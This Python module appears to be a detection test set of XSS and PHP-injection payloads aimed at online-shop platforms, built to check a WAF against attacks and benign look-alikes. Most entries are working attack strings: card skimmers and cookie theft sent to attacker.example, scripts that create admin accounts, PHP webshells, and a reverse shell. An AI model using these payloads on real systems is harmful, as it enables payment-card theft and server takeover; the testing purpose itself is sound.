"""Blind set "twohundredeighth": cross-site scripting and PHP injection aimed at online shops and the services
around them, with benign requests that carry the same words innocently.

The angle: e-commerce and payment platforms, recalled from memory. Each payload is written the way it is aimed at
a shop: Magento/Adobe Commerce (Luma and Knockout checkout, Hyva and Alpine.js, RequireJS, FORM_KEY, app/etc/env.php),
WooCommerce and WordPress plugins (?s=, billing_first_name, order notes, _wpnonce, wp-config.php), PrestaShop
(search_query, Smarty templates, settings.inc.php and parameters.php), OpenCart (route=, filter_name, config.php),
Shopware (sSearch, Twig and Vue administration, .env), Shopify and BigCommerce apps (Liquid themes, Laravel and
Node app backends, /cart.js), headless storefronts (Vue, Angular, instant-search widgets), cart and checkout APIs,
coupon and gift-card endpoints, product search and faceted filters, reviews and Q&A, order tracking, invoice and
label PDF generators (wkhtmltopdf, dompdf), payment-provider callbacks and webhooks (IPN, 3-D Secure returns,
postMessage handlers), ERP and marketplace feed importers (CSV, XML), and the shop admin (stored XSS that creates
an admin, Magecart skimmers, server-side skimmers and backdoors). Each list carries a comment naming the family,
the platform and the target (the shopper's or admin's browser, the PDF renderer, the client template engine, the
PHP interpreter, the shell behind it, the product whose gadget classes a serialized object reaches).

Families (one sub-family per detection title):
  xss: libinjection-xss, script-tag, event-handler, attribute-vector (src/href/style/formaction), javascript-uri,
    html-injection (iframe/object/embed/base/meta/link/form), svg-mathml, css-expression,
    template-literal-dom-sink, ie-filter-style, encoded-entity, angular-vue-client-template
  php: php-open-tag, php-function-call (system/exec/passthru/shell_exec/popen/proc_open/assert/eval/
    create_function/preg_replace-e), php-variable-functions, php-wrappers (php://, data://, phar://, expect://,
    zip://, glob://), php-object-injection (serialized O:/a:/C:), php-config-directives (auto_prepend_file,
    allow_url_include, php-cgi -d, .user.ini, .htaccess php_value, PHP_VALUE), superglobals, php-file-upload
    (.php/.phtml/.phar names), php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), under the shop's own parameter names (q, search_query, s, nickname, detail,
billing_first_name, order_comments, coupon_code, return_url, filter_name, route, feed_url, additional_data, ...),
once the way a WAF regression suite sends it (placements prefixed "rs-"): to paths that are not our routes
(/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo,
var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Upload names go as a multipart file name (the import form, and
a suite's upload); webhook and 3-D Secure documents go as the whole JSON body; register_globals and php-cgi pairs
(`GLOBALS[...]=...`, `allow_url_include=1&...`) go as raw `name=value` pairs. Payloads with control characters
(newline, tab, NUL in serialized private properties) never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family and of the
shop platforms, as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test
or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredeighth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
UP = ("multipart-filename", "rs-multipart-filename")
RQ = ("query", "rs-query")
RC = ("cookie", "rs-cookie")
RF = ("form", "rs-raw-body")

# ================================================================================================================
# XSS
# ----------------------------------------------------------------------------------------------------------------
# xss / libinjection-xss: short breakouts from a text or attribute context on storefront fields; target: the
# shopper's or the admin's browser when the value is echoed unescaped
LIBXSS: list[Entry] = [
    # Magento catalogsearch/result ?q= echoed in the "Search results for" heading and the search box value
    '"><script>alert(document.domain)</script>',
    "'><img src=x onerror=alert(1)>",
    # WooCommerce ?s= product search, the term lands in <title> of a theme that prints it raw
    "</title><script>alert(1)</script>",
    "<img src=x onerror=prompt(document.cookie)>",
    # PrestaShop search_query, echoed in the search block input
    '"><svg/onload=confirm(1)>',
    # OpenCart route=product/search&filter_name= inside value="..."
    '"onmouseover="alert(1)',
    '" autofocus onfocus="alert(document.cookie)',
    # coupon code field echoed back in value='...' after "Coupon code is not valid"
    "' onmouseover='alert(document.cookie)'",
    "' autofocus onfocus='alert(1)' x='",
    # product review textarea (Magento review form "detail", Woo comment) echoed on validation error
    "</textarea><script>alert(1)</script>",
    # Magento full-page cache wraps blocks in HTML comments; a nickname that closes the comment
    "--><script>alert(1)</script>",
    # the product feed value lands inside CDATA of an embedded JSON-LD or XML island
    "]]><script>alert(1)</script>",
    # dataLayer / GA4 ecommerce tracking: the search term is inside a <script> block
    "</script><script>alert(1)</script>",
    # order-tracking page (Woo [woocommerce_order_tracking] orderid / order_email)
    "<body onload=alert(1)>",
    '"><a href=javascript:alert(1)>track order</a>',
    "<iframe src=javascript:alert(1)>",
    "<x onclick=alert(1)>click",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '"><video><source onerror=alert(1)>',
    "<marquee onstart=alert(1)>",
    '"><body/onpageshow=alert(1)>',
]

# xss / script-tag: <script> blocks stored in reviews, order notes, CMS blocks and product descriptions; target:
# the shopper's browser on the product page and the admin's browser in the back office (Magecart skimmers,
# admin-user creation through the admin's session)
SCRIPT: list[Entry] = [
    # WooCommerce order note shown to the shop manager in wp-admin
    "<script>alert(document.cookie)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    '<script type="text/javascript">alert(String.fromCharCode(88,83,83))</script>',
    # Magecart: a skimmer loader dropped into a Magento CMS block or a review the theme renders raw
    "<script src=https://attacker.example/skimmer.js></script>",
    '<script src="https://google-anaiytics.example/ga.js"></script>',
    "<script>jQuery.getScript('//attacker.example/s.js')</script>",
    "<script>require(['jquery'],function($){$.getScript('//attacker.example/k.js')})</script>",
    # checkout skimmers: read the card fields and send them out on submit
    "<script>document.forms[0].addEventListener('submit',function(){navigator.sendBeacon("
    "'//attacker.example/l',new FormData(this))})</script>",
    "<script>fetch('https://attacker.example/x',{method:'POST',body:document.querySelector('#cc_number').value})"
    "</script>",
    "<script>new Image().src='https://attacker.example/c?'+document.cookie</script>",
    "<script>window.location='https://attacker.example/steal?c='+document.cookie</script>",
    "<script>document.write('<img src=//attacker.example/?'+document.cookie+'>')</script>",
    # Magento admin: stored XSS in a customer name creates a second admin with the admin's FORM_KEY
    "<script>fetch('/admin/admin/user/save/',{method:'POST',credentials:'include',headers:{'Content-Type':"
    "'application/x-www-form-urlencoded'},body:'username=support2&email=s2@attacker.example&password=Xx12345678"
    "&password_confirmation=Xx12345678&is_active=1&roles[]=1&form_key='+FORM_KEY})</script>",
    # WordPress/WooCommerce: read the add-user nonce and create an administrator
    "<script>fetch('/wp-admin/user-new.php').then(r=>r.text()).then(t=>{var n=t.match(/_wpnonce_create-user"
    "\" value=\"(\\w+)/)[1];fetch('/wp-admin/user-new.php',{method:'POST',body:new URLSearchParams({action:"
    "'createuser','_wpnonce_create-user':n,user_login:'wcsupport',email:'w@attacker.example',pass1:'Xx123456!',"
    "pass2:'Xx123456!',role:'administrator'})})})</script>",
    # Magento customer data cached in localStorage (mage-cache-storage: name, email, cart)
    "<script>new Image().src='//attacker.example/?d='+encodeURIComponent(localStorage['mage-cache-storage'])"
    "</script>",
    # Shopify theme: the cart JSON of the visitor sent out
    "<script>fetch('/cart.js').then(r=>r.json()).then(c=>navigator.sendBeacon('//attacker.example/c',"
    "JSON.stringify(c)))</script>",
    # PrestaShop module that strips "<script>" once (case-sensitive, not recursive)
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))</script>",
    "<script/src=data:,alert(1)></script>",
    "<script>setTimeout('alert(document.domain)',0)</script>",
    "<script\n>alert(1)</script\n>",
]

# xss / event-handler: on* attributes on tags a rich-text or review filter lets through; target: the shopper's
# browser on product, cart and order pages, and the support agent's browser in the help-desk view of orders
EVENT: list[Entry] = [
    # product review title rendered in the "Most helpful reviews" widget
    "<img src=x onerror=alert(document.domain)>",
    "<img src=x onerror=\"this.src='//attacker.example/?c='+document.cookie\">",
    "<img src=1 onerror=eval(atob(this.id)) id=YWxlcnQoMSk=>",
    "<img src=x onerror=import('//attacker.example/m.js')>",
    "<img\nsrc=x\nonerror=alert(1)>",
    # coupon / price-rule description shown on the cart page
    "<div onmouseover=\"alert(document.cookie)\">50% off</div>",
    "<a onmouseover=alert(1)>Track order</a>",
    "<p onclick=alert(document.cookie)>Apply coupon</p>",
    "<div onpointerover=alert(1)>hover for price</div>",
    # configurable product option label (size / colour swatch) in a <select>
    "<select onchange=alert(1)><option>S<option>M</select>",
    "<textarea autofocus onfocus=alert(1)>",
    "<x contenteditable onblur=alert(1)>lose focus",
    "<body onpageshow=alert(1)>",
    "<body onhashchange=alert(1)><a href=#x>x</a>",
    # product video and 360 viewer fields on the product page
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<object data=x onerror=alert(1)>",
    "<iframe onload=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>",
    # product image upload: Magento media gallery and Woo show the original file name in the admin grid
    ('"><img src=x onerror=alert(document.domain)>.jpg', *UP),
    ("<svg onload=alert(1)>.png", *UP),
]

# xss / attribute-vector (src/href/style/formaction): the value lands inside an attribute of the product page, the
# checkout or the invoice; target: the shopper's browser (overlays, form hijacking of the payment form)
ATTR: list[Entry] = [
    # product name inside alt="..." of the gallery image (Magento, Woo)
    'x" onerror="alert(1)',
    '" src=x onerror=alert(1) x="',
    '" style="position:fixed;top:0;left:0;width:100%;height:100%" onmouseover="alert(1)',
    # formaction: the injected button posts the checkout form (card number included) elsewhere
    "<form><button formaction=javascript:alert(document.cookie)>Place order</button></form>",
    '<input type=submit formaction=//attacker.example/collect value="Pay now">',
    "<button form=co-payment-form formaction=//attacker.example/pay formmethod=post>Confirm</button>",
    # a fake payment page over the real checkout
    '"><iframe src="https://attacker.example/checkout.html" style="position:fixed;top:0;left:0;width:100%;'
    'height:100%;border:0">',
    '<a href="//attacker.example/login" style="display:block;position:absolute;top:0;left:0;width:100%;'
    'height:100%">',
    # dangling markup: the rest of the page (with form_key / _wpnonce) goes to the attacker as a URL
    "<img src='//attacker.example/?",
    '"><img src="https://attacker.example/log?html=',
    # src / srcdoc / data attributes that run script
    "<img srcset=\",,,,,x\" onerror=alert(1)>",
    "<iframe srcdoc=\"<script>parent.alert(document.domain)</script>\">",
    "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Download invoice</a>',
    '<a href="javascript:void(0)" onclick="alert(document.cookie)">Download label</a>',
    "<video poster=javascript:alert(1)>",
    '<img src="https://attacker.example/x.png" width=1 height=1 onload="fetch(\'//attacker.example/?\'+'
    'document.cookie)">',
    "<input value=\"\" onfocus=alert(1) autofocus x=\"\">",
]

# xss / javascript-uri: return and redirect URLs the shop puts into href or location after payment (3-D Secure
# TermUrl, PayPal return / cancel_return, Magento uenc and referer, Woo redirect_to, Shopify return_to,
# checkout_url, continue); target: the shopper's browser on the success, cancel or account page
JSURI: list[Entry] = [
    "javascript:alert(document.domain)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript://shop.example/checkout/onepage/success/\nalert(document.domain)",
    "javascript://%0Aalert(1)",
    "javascript:alert%281%29",
    "javascript:\\u0061lert(1)",
    "javascript:top['al'+'ert'](1)",
    "javascript:confirm(document.domain)",
    "javascript:fetch('//attacker.example/?c='+document.cookie)",
    "javascript:window.location='https://attacker.example/pay?'+document.cookie",
    "javascript:eval(atob('YWxlcnQoMSk='))",
    "javascript:import('//attacker.example/x.js')",
    "javascript:alert(1)//.pdf",
    "javascript:void(document.body.innerHTML='<h1>Session expired</h1><form action=//attacker.example/login>"
    "<input name=password type=password><button>Sign in</button></form>')",
    # Magento account takeover: change the e-mail with the page's FORM_KEY
    "javascript:jQuery.post('/customer/account/editPost/',{email:'owner@attacker.example',"
    "form_key:window.FORM_KEY})",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/alert(1)",
    # PayPal-style cancel_return inside a query string the shop forwards as it is
    "https://shop.example/checkout/cart/?return_url=javascript:alert(1)",
    # 3-D Secure TermUrl posted back by the ACS and used as the form action
    ("TermUrl=javascript:alert(document.domain)&MD=3f1c0a&PaRes=eJzVWNmO", *RF),
]

# xss / html-injection (iframe/object/embed/base/meta/link/form): markup that is not script but takes over the page,
# the order e-mail or the PDF; target: the shopper's browser, and the invoice / label PDF renderer (wkhtmltopdf,
# dompdf) that fetches files and URLs on the server
HTML: list[Entry] = [
    # fake 3-D Secure challenge in the order-confirmation page
    '<iframe src="https://attacker.example/3ds/verify" width=400 height=600></iframe>',
    "<iframe src=//attacker.example/ style=\"opacity:0;position:absolute;top:0;left:0;width:100%;height:100%\">",
    # invoice / packing-slip PDF (wkhtmltopdf): the billing address reads server files and cloud metadata
    "<iframe src=file:///etc/passwd width=1000 height=1000>",
    '<iframe src="http://169.254.169.254/latest/meta-data/iam/security-credentials/" width=800 height=400>',
    "<object data=file:///var/www/html/app/etc/env.php type=text/plain width=900 height=900>",
    "<embed src=file:///etc/hosts type=text/plain>",
    # hijack relative script paths (RequireJS base, Woo assets) and meta redirects
    '<base href="https://attacker.example/">',
    '<meta http-equiv="refresh" content="0;url=https://attacker.example/paypal/">',
    '<meta http-equiv="Set-Cookie" content="PHPSESSID=attacker123; path=/">',
    "<link rel=stylesheet href=https://attacker.example/exfil.css>",
    "<link rel=import href=//attacker.example/x.html>",
    "<embed src=//attacker.example/x.swf allowscriptaccess=always>",
    "<object data=\"//attacker.example/x.html\" type=text/html></object>",
    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
    "<frameset><frame src=javascript:alert(1)></frameset>",
    # a payment form of the attacker's inside a CMS block or product description
    "<form action=https://attacker.example/collect method=post><input name=card_number placeholder=\"Card number\">"
    "<input name=cvv placeholder=CVV><button>Pay</button></form>",
    "<form id=product_addtocart_form action=//attacker.example/ method=post>",
    # content spoofing in the order e-mail (Magento order comment "notify customer")
    '<h1>Your order was cancelled</h1><p>Call +1-202-555-0147 or <a href=//attacker.example/refund>request '
    "your refund</a></p>",
    # sanitizer parser differentials in a WYSIWYG product description
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]

# xss / svg-mathml: SVG and MathML in uploaded product images, swatches and descriptions; target: the shopper's
# browser (and the admin's, when the media library opens the SVG inline)
SVG: list[Entry] = [
    "<svg onload=alert(1)>",
    "<svg/onload=location='//attacker.example/?'+document.cookie>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><script xlink:href=//attacker.example/s.js></script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2'
    'UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"></use></svg>',
    # colour-swatch SVG uploaded through the Magento / Woo attribute editor
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch(\'//attacker.example/?c=\'+document.cookie)</script>'
    "</svg>",
    '<svg viewBox="0 0 100 100"><a xlink:href="javascript:alert(document.domain)"><rect width="100" '
    'height="100"/></a></svg>',
    "<svg><image href=x onerror=alert(1)>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    # MathML in a product description that a sanitizer round-trips (mutation XSS)
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;'
    'onerror=alert(1)&gt;">',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>Click</maction></math>",
    "<math href=javascript:alert(1)>CLICK</math>",
    "<math><a xlink:href=javascript:alert(1)>click</a></math>",
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
]

# xss / css-expression: style attributes and <style> blocks in theme settings, product descriptions and the
# colour attribute; target: the shopper's browser (IE expression(), behaviors, bindings, CSS exfiltration of the
# Magento form_key and the WordPress nonce, UI redressing of the checkout)
CSS: list[Entry] = [
    '<div style="width:expression(alert(1))">',
    '<p style="xss:expression(alert(document.cookie))">',
    '<xss style="xss:expression(document.location=\'//attacker.example/?\'+document.cookie)">',
    '<div style="width:expr\\ession(alert(1))">',
    '<div style="width:exp/**/ression(alert(1))">',
    '<img style="xss:\\65 xpression(alert(1))">',
    "<style>*{x:expression(alert(1))}</style>",
    "expression(alert(document.domain))",
    '<div style="background-image:url(javascript:alert(1))">',
    '<style>body{background:url("javascript:alert(1)")}</style>',
    "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<div style="behavior:url(//attacker.example/xss.htc)">',
    '<div style="-moz-binding:url(//attacker.example/xss.xml#x)">',
    # CSS exfiltration of tokens in hidden inputs
    "<style>input[name=form_key][value^=a]{background:url(//attacker.example/?k=a)}</style>",
    "<style>input[name=_wpnonce][value^=0]{background:url(//attacker.example/n?0)}</style>",
    "<style>@font-face{font-family:x;src:url(//attacker.example/?leak=A);unicode-range:U+0041}</style>",
    "<style>@import url(//attacker.example/magecart.css);</style>",
    # the product colour attribute is written into style="color:..." (Woo variation swatches, theme settings)
    "color:red;background:url(javascript:alert(1))",
    "red;}</style><script>alert(1)</script>",
    '<div style="position:fixed;inset:0;z-index:99999;background:url(//attacker.example/fake-checkout.png)">',
]

# xss / template-literal-dom-sink: headless storefronts and instant-search widgets that put the term into a JS
# template literal, innerHTML, jQuery $(), eval/setTimeout, location or a postMessage handler; target: the
# shopper's browser (no server reflection needed for the hash and postMessage ones)
DOM: list[Entry] = [
    # server-rendered `Results for ${q}` in a Next.js / Nuxt storefront script block
    "${alert(document.domain)}",
    "${fetch('//attacker.example/?c='+document.cookie)}",
    "`-alert(1)-`",
    "`;alert(1);//",
    "';alert`1`//",
    "setTimeout`alert\\x28document.domain\\x29`",
    # instant-search autocomplete template writes the term with innerHTML
    "<img src=x onerror=alert(1)>",
    # old jQuery $(location.hash) on the product tabs (#reviews, #description)
    "#<img src=x onerror=alert(1)>",
    '#"><img src=x onerror=alert(1)>',
    "<img src=x onerror=eval(location.hash.slice(1))>#alert(1)",
    "<img src=x onerror=document.body.innerHTML=decodeURIComponent(location.hash.slice(1))>",
    # string passed to setTimeout / eval by a countdown-timer or price-format widget
    "');alert(document.domain);//",
    "\");alert(document.cookie);//",
    # JSON-LD product schema / __NEXT_DATA__ JSON inside <script>
    "</script><img src=x onerror=alert(1)>",
    # JSONP callback of a store locator / shipping-rate endpoint
    "alert(document.domain)//",
    # client-side prototype pollution reaching an innerHTML or srcdoc gadget (query parsers of the storefront)
    "__proto__[innerHTML]=<img src=x onerror=alert(1)>",
    "constructor[prototype][srcdoc][]=<script>alert(1)</script>",
    ('{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}', *JB),
    # payment iframe (3-D Secure) postMessage handler that sets location from the message
    ('{"type":"3ds-complete","status":"Y","redirectUrl":"javascript:alert(document.domain)"}', *JB),
    ('{"event":"checkout.resize","html":"<img src=x onerror=alert(document.cookie)>"}', *JB),
]

# xss / ie-filter-style: the shapes the old IE filter looked for: quote breakouts in inline script, vbscript:,
# IE-only tags and attributes, conditional comments, data binding; target: the shopper's browser (IE mode of
# intranet shop admins and ERP front ends), and the tracking script of the storefront
IE: list[Entry] = [
    # dataLayer.push({'search_term':'...'}) and Magento's x-magento-init JSON
    "'-alert(document.domain)-'",
    '"+alert(1)+"',
    "';alert(String.fromCharCode(88,83,83))//",
    "\\';alert(1);//",
    '"};alert(1);{"',
    "';window.location='//attacker.example/?c='+document.cookie;//",
    # IE-only script schemes and attributes
    'vbscript:msgbox("XSS")',
    '<a href="vbscript:alert(document.cookie)">Invoice</a>',
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    '<bgsound src="javascript:alert(1)">',
    '<table background="javascript:alert(1)">',
    "<isindex action=javascript:alert(1) type=image>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<frameset onload=alert(1)>",
    '<script for=window event=onload>alert(1)</script>',
    '<img src=x style="behavior:url(#default#time2)" onbegin=alert(1)>',
    # IE data islands and HTML+TIME
    '<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>'
    "<span datasrc=#x datafld=c dataformatas=html></span>",
    '<?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" '
    'to="XSS<script defer>alert(1)</script>">',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    '<comment><img src="</comment><img src=x onerror=alert(1)//">',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
]

# xss / encoded-entity: values the shop decodes once more than the filter does (html_entity_decode in the CSV
# product import, urldecode of Magento uenc, JSON unicode escapes in a headless API, UTF-7 on a page without a
# charset, full-width forms normalised by the search index); target: the shopper's browser
ENC: list[Entry] = [
    # PrestaShop / Woo CSV import: the description column is entity-decoded before it is stored
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3C;svg onload=alert(1)&#x3E;",
    # Magento uenc / referer values are url-decoded again by the controller
    "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    # character references inside attributes (decoded by the browser, not by a naive filter)
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Track</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">Track</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
    '&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">Invoice</a>',
    '<a href="jav&#x09;ascript:alert(1)">Track</a>',
    '<a href="javascript&colon;alert&lpar;1&rpar;">Track</a>',
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
    "<svg onload=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>",
    '<iframe src="javascript:%61lert(1)">',
    # JS string escapes in a headless API value rendered with innerHTML / document.write
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\74img src=x onerror=alert(1)\\76",
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+",
    # UTF-7 on an invoice page served without a charset (old IE), full-width forms after NFKC normalisation
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]

# xss / angular-vue-client-template: expressions that the storefront's client template engine evaluates when the
# server prints the value into a mounted element: AngularJS (older accelerators, Shopware 5 with [[ ]] symbols),
# Vue 2/3 (Vue Storefront, Shopware 6 administration), Alpine.js (Hyva Magento themes), Knockout (Magento 2 Luma
# checkout); target: the shopper's or admin's browser through that template engine
TPL: list[Entry] = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(document.domain)')()}}",
    "{{constructor.constructor('fetch(\"//attacker.example/?\"+document.cookie)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "<div ng-app>{{constructor.constructor('alert(document.cookie)')()}}</div>",
    "<input id=x ng-focus=$event.composedPath()|orderBy:'(z=alert)(document.cookie)' autofocus>",
    "[[constructor.constructor('alert(1)')()]]",
    # Vue 2 / Vue 3
    "{{_c.constructor('alert(1)')()}}",
    "{{$el.ownerDocument.defaultView.alert(1)}}",
    "{{_openBlock.constructor('alert(1)')()}}",
    "{{$emit.constructor('alert(document.domain)')()}}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "<img src=x @error=alert(1)>",
    '<p v-on:click="$event.view.alert(document.cookie)">Apply coupon</p>',
    # Alpine.js on Hyva
    '<div x-data x-init="alert(document.domain)"></div>',
    "<div x-data=\"{}\" x-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "<button x-data @click=\"fetch('//attacker.example/?'+document.cookie)\">Add to cart</button>",
    # Knockout bindings in the Magento 2 checkout and minicart templates
    '<span data-bind="text: alert(document.domain)"></span>',
    "<div data-bind=\"html: '<img src=x onerror=alert(1)>'\"></div>",
    "<!-- ko text: alert(1) --><!-- /ko -->",
    "<div data-bind=\"event: {mouseover: function(){fetch('//attacker.example/?'+document.cookie)}}\">Cart</div>",
]

# ================================================================================================================
# PHP
# ----------------------------------------------------------------------------------------------------------------
# php / php-open-tag: PHP code where the shop writes input into a .php file, an uploaded image that is later
# included, a CMS block evaluated by a page-builder plugin, or a config file written by the installer; target:
# the PHP interpreter (and through it the shell) of Magento, WooCommerce, PrestaShop and OpenCart
OPEN: list[Entry] = [
    "<?php system($_REQUEST['c']); ?>",
    "<?php @eval($_POST['pass']);?>",
    "<?=`$_GET[0]`?>",
    "<?= system('id') ?>",
    "<? passthru($_GET['x']); ?>",
    "<?PHP phpinfo(); ?>",
    "<?php\nsystem('id');",
    "<?php include $_GET['p']; ?>",
    # Magento: read the crypt key and DB password from app/etc/env.php
    "<?php echo shell_exec('cat app/etc/env.php'); ?>",
    # WooCommerce / WordPress
    "<?php echo file_get_contents('wp-config.php'); ?>",
    # drop a second shell under pub/media (writable on every Magento 2 install)
    "<?php file_put_contents('pub/media/catalog/product/cache.php', base64_decode($_POST['d'])); ?>",
    "<?php copy('https://attacker.example/s.txt','pub/errors/local.php'); ?>",
    # server-side skimmers planted in the payment controller (Magecart on the server)
    "<?php if(isset($_POST['payment'])){file_put_contents('/tmp/.c',json_encode($_POST['payment']),FILE_APPEND);} ?>",
    "<?php $c=curl_init('https://attacker.example/c');curl_setopt($c,CURLOPT_POSTFIELDS,http_build_query($_POST));"
    "curl_exec($c);?>",
    "<?php header('Location: https://attacker.example/pay?'.http_build_query($_POST)); ?>",
    # polyglot product image for an upload that is included later (getimagesize() passes on GIF89a)
    "GIF89a;<?php system($_GET['c']); ?>",
    # obfuscated shells as found on compromised shops
    "<?php eval(gzinflate(base64_decode('K64sLknN1VCJd3cNiVZPVo/VtAYA'))); ?>",
    "<?php $_=\"{\";$_=($_^\"<\").($_^\">\").($_^\"/\");?><?=${'_'.$_}[\"_\"](${'_'.$_}[\"__\"]);?>",
    "<?php echo '<pre>'.print_r($_SERVER,true); ?>",
    # PHP 5 era tags still accepted by old PrestaShop / osCommerce hosting
    "<script language=\"php\">system('id');</script>",
    "<% system($_GET['c']); %>",
    # installer writes the DB name into config.php / settings.inc.php inside define('...', '...')
    "x');?><?php system($_GET['c']);//",
    # Smarty 2 {php} tag in a PrestaShop 1.5 theme or mail template
    "{php}system('id');{/php}",
    "{php}echo file_get_contents('config/settings.inc.php');{/php}",
]

# php / php-function-call: direct calls to the command and code execution functions where input reaches eval(),
# assert(), a price formula or a template filter; target: the PHP interpreter and the shell behind it
FUNC: list[Entry] = [
    "system('id');",
    "exec('wget -qO- https://attacker.example/x.sh | sh');",
    "passthru('cat /var/www/html/app/etc/env.php');",
    "shell_exec('curl -s https://attacker.example/p.php -o pub/get.php');",
    "popen('id','r');",
    "proc_open('bash -c \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"',[],$p);",
    "pcntl_exec('/bin/sh',['-c','id']);",
    "assert('system(\"id\")');",
    "assert($_REQUEST['a']);",
    "eval('system(\"uname -a\");');",
    "eval($_POST['z']);",
    "$f=create_function('','system(\"id\");');$f();",
    "preg_replace('/.*/e','system(\"id\")','x');",
    "preg_replace(\"/a/e\",\"phpinfo()\",\"a\")",
    "exec($_GET['c'],$o);echo implode(\"\\n\",$o);",
    "echo `id`;",
    "system(base64_decode('aWQ='));",
    "system(hex2bin('6964'));",
    "system(str_rot13('vq'));",
    "file_put_contents('pub/media/x.php','<?php system($_GET[0]);');",
    # dynamic-pricing / product add-on plugins that eval() the price formula (Woo), coupon rule conditions
    "1;system('id')",
    "'.system('id').'",
    "0+system('cat wp-config.php')",
    # OpenCart / PrestaShop installer: the DB field is written into define('DB_PASSWORD', '...')
    "');system($_GET['c']);//",
